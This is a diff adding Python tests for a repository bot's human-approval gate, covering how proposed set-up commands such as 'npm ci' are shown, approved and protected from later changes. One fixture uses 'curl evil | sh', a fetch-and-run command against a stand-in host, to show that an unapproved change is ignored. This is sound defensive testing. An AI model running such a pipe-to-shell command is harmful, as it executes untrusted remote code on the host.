@@ -8,9 +8,10 @@ from bot.core import approval
 from bot.core.actions import Show
 from bot.core.cards import ApprovalCard, NeedsYouCard, QuestionsCard
 from bot.core.checks import Comparison
-from bot.core.choices import Command, Verb, Word
+from bot.core.choices import Command, Verb, Word, parse_command
 from bot.core.events import CheckRan, Commanded, QuestionsFound, Scanned, WorkSeen
 from bot.core.evidence import CommandSource
+from bot.core.gate import Role, role_for
 from bot.core.git import Scan
 from bot.core.layout import lay_out
 from bot.core.session import Session
@@ -320,3 +321,36 @@ def test_what_could_not_begin_says_so_in_its_output(output: str, why: str) -> No
     assert why in told
     assert bool(told) == bool(why)
     assert test_command.why_not_run(0, output) == ""
+
+
+def told_to_set_up(command: str) -> Commanded:
+    said = Command(word=Word.SET_UP, text=command)
+    return Commanded(id=f"setup {command}", at=later(), by=ANN, command=said)
+
+
+def test_the_set_up_that_is_found_is_shown_and_approved_with_the_plan() -> None:
+    session = awaiting_approval()
+    before = approval.digest(session)
+    test_command.take_scan(session, Scan(commit="b" * 40, set_up="npm ci"))
+    assert approval.digest(session) != before
+    card = messages.approval_wanted(session).card
+    assert "npm ci" in str(lay_out(card))
+    # what a base brings that moved after the approval has been seen by nobody
+    moved = Scan(commit="c" * 40, set_up="curl evil | sh")
+    session.scan = test_command.as_approved(session, moved)
+    assert session.set_up == "npm ci"
+
+
+@pytest.mark.parametrize(("word", "runs"), [("none", ""), ("`pnpm install`", "pnpm install")])
+def test_whoever_may_approve_says_what_is_set_up_and_approves_that(word: str, runs: str) -> None:
+    session = awaiting_approval()
+    test_command.take_scan(session, Scan(commit="b" * 40, set_up="npm ci"))
+    before = approval.digest(session)
+    deeds = decide(session, told_to_set_up(word))
+    assert any(isinstance(card, ApprovalCard) and card.set_up == runs for card in cards(deeds))
+    assert approval.digest(session) != before
+    # what is found anew does not win over what a person has said
+    test_command.take_scan(session, Scan(commit="c" * 40, set_up="npm ci"))
+    assert session.set_up == runs
+    assert role_for(told_to_set_up(word)) is Role.APPROVE
+    assert parse_command(f"Setup: {word}") == Command(word=Word.SET_UP, text=word)
